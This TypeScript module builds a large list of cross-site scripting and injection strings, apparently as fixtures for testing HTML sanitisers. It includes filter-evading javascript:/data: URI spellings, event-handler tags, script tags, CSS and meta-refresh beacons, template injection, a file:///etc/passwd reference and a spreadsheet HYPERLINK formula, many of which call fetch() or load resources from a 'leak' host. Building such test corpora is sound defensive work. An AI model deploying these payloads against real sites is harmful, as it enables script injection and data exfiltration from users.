// Texts that a careless page would run: each way to begin a script, in each spelling that filters are known to miss.
const spelt = (word: string): readonly string[] => [
  word,
  word.toUpperCase(),
  `${word.slice(0, 4)}\t${word.slice(4)}`,
  `${word.slice(0, 4)}\n${word.slice(4)}`,
  `\u0001${word}`,
  ` ${word}`,
  word.replace('a', '&#97;'),
  word.replace(':', '&colon;'),
  word.replace('s', '\u017f'),
  `${word}//%0a`,
]

/** At least two hundred; `leak` is an address that nobody may ask. */
export function payloadsFor(leak: string): readonly string[] {
  const run = `window.stolen=1;fetch('${leak}/js')`
  const schemes = ['javascript:', 'vbscript:', 'data:text/html,<script>', 'livescript:'].flatMap((scheme) =>
    spelt(scheme).map((one) => `${one}${run}`),
  )
  const tags = [
    'img',
    'svg',
    'video',
    'audio',
    'body',
    'input',
    'iframe',
    'details',
    'object',
    'marquee',
    'select',
    'x',
  ]
  const events = [
    'onerror',
    'onload',
    'onclick',
    'onfocus',
    'onmouseover',
    'ontoggle',
    'onstart',
    'onanimationend',
  ]
  const elements = tags.flatMap((tag) =>
    events.map((event) => `<${tag} src=x ${event}="${run}" autofocus open style="animation:x">`),
  )
  const whole = [
    `<script>${run}</script>`,
    `<script src="${leak}/a.js"></script>`,
    `"><script>${run}</script>`,
    `'"><img src="${leak}/a.png">`,
    `</textarea><script>${run}</script>`,
    `</title><script>${run}</script>`,
    `<svg><script href="${leak}/a.js"/></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    `<svg><animate attributeName="href" values="javascript:${run}"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
    `<math><mtext></p><img src=x onerror="${run}"></mtext></math>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<object data="data:text/html,<script>${run}</script>"></object>`,
    `<embed src="${leak}/a.swf">`,
    `<base href="${leak}/">`,
    `<link rel="stylesheet" href="${leak}/a.css">`,
    `<meta http-equiv="refresh" content="0;url=${leak}/meta">`,
    `<form action="${leak}/form"><button>x</button></form>`,
    `<style>@import "${leak}/b.css";</style>`,
    `<div style="background:url(${leak}/c.png)">x</div>`,
    `{{constructor.constructor('${run}')()}}`,
    '${alert(1)}',
    `<a href="javascript:${run}">x</a>`,
    `[x](javascript:${run})`,
    `![x](${leak}/md.png)`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
    `blob:${leak}/x`,
    `file:///etc/passwd`,
    `//${leak.slice('http://'.length)}/relative`,
    `url(${leak}/d.png)`,
    `expression(${run})`,
    `left;background:url(${leak}/e.png);position:fixed`,
    `red;position:fixed;inset:0`,
    `1e9`,
    `<!--><img src=x onerror="${run}">-->`,
    `<![CDATA[<script>${run}</script>]]>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><script>${run}</script></template>`,
    `\u202e<script>${run}</script>`,
    `<scr\u0000ipt>${run}</scr\u0000ipt>`,
    `＜script＞${run}＜/script＞`,
    `<ſcript>${run}</ſcript>`,
    `<%= ${run} %>`,
    `=HYPERLINK("${leak}/excel","x")`,
  ]
  const attributes = [
    'href',
    'src',
    'style',
    'srcdoc',
    'formaction',
    'action',
    'poster',
    'background',
    'ping',
    'xlink:href',
  ].flatMap((name) => [`" ${name}="javascript:${run}`, `' ${name}='${leak}/attribute`])
  return [...schemes, ...whole, ...attributes, ...elements]
}
